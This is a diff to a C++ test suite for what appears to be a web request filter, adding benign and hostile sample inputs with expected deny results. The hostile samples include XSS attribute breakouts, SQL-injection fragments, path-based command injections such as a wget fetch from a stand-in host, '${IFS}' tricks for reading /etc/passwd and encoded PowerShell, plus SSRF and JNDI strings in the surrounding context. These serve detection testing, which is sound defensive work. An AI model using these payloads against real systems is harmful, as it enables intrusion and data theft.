@@ -68,6 +68,12 @@ const std::vector<SiblingClass>& sibling_classes() {
        {"smtp://user%0d%0aRCPT@mail.example.com:25", "smtp://127.0.0.1:25/", "postgres://localhost:5432/",
         "gopher://127.0.0.1:6379/_x", "rtsp://2130706433:22/", "rtsp://169.254.169.254/",
         "rtsp://localhost:554/", "mysql://root:x@127.0.0.1:6379/a", "dict://127.0.0.1:11211/stat"}},
+      {"handler behind a quote",
+       {"\"onclick=foo\"", "it's onclick=foo in that line", "what does \"a\" onclick=b mean?"},
+       {"x' onclick=y z='", "\" onfocus=x autofocus", "'/onmouseover=y", "x\"\tonpointerenter=y"}},
+      {"logic behind the quote that begins a value",
+       {"'and then they left", "6' or 7' tall", "'n' roll or jazz", "\"fish and chips\"", "' or: the other"},
+       {"' or xyz!", "\" and 1", "') or foo", "' xor (", "') and -x"}},
   };
   return kClasses;
 }
@@ -135,7 +141,42 @@ constexpr BodyRow kBodies[] = {
     {"application/json", R"({"type":"code","text":"x;cat /etc/passwd"})", true},
     {"application/json", R"({"items":[{"type":"code","text":"x;cat /etc/passwd"}]})", true},
     {"application/json", R"({"blocks":[{"type":"code","data":{"code":"${jndi:ldap://x/a}"}}]})", true},
+    // A short line by itself is a value without a name.
+    {"text/plain", "admin'/*", true},
+    {"text/plain", "' sounds like 'a", true},
+    {"text/plain", "19 is not null", true},
+    {"text/plain", "The door is open, 21 degrees; call Anna's mother or Tom", false},
+    {"text/plain", "ON", false},
+    {"text/plain", "temperature=21.5 humidity=40 # kitchen", false},
 };
+
+struct PathRow {
+  const char* path;
+  bool denied;
+};
+// What a route takes for its parameter; names of files and folders have blanks and words that are commands.
+constexpr PathRow kPaths[] = {
+    {"/env%20wget%20http://a.example/x.sh", true},
+    {"/tail%20-n%205%20/var/log/syslog", true},
+    {"/ping/powershell%20-enc%20YQBi", false},  // the program's name is not what the path begins with
+    {"/powershell%20-enc%20YQBi", true},
+    {"/cat${IFS}/etc/passwd", true},
+    {"/cat%3C/etc/passwd", true},
+    {"/cat%20photos/IMG_1.jpg", false},
+    {"/cat%20photos/sub%20folder/IMG_1.jpg", false},
+    {"/find%20my%20phone.docx", false},
+    {"/Kill%20Bill%20(2003).mkv", false},
+    {"/man%20vs%20wild/season%201/ep%202.mp4", false},
+    {"/top%2010%20songs%20of%202020.mp3", false},
+    {"/who%20is%20who.html", false},
+};
+
+TEST(Siblings, Paths) {
+  for (const PathRow& row : kPaths) {
+    judge().inspect(fmt::format("GET {} HTTP/1.1\r\nHost: shop.example\r\n\r\n", row.path));
+    EXPECT_EQ(judge().denies(Sensitivity::kBalanced), row.denied) << judge().why() << " <- " << row.path;
+  }
+}
 
 TEST(Siblings, WholeBodies) {
   for (const BodyRow& row : kBodies) {
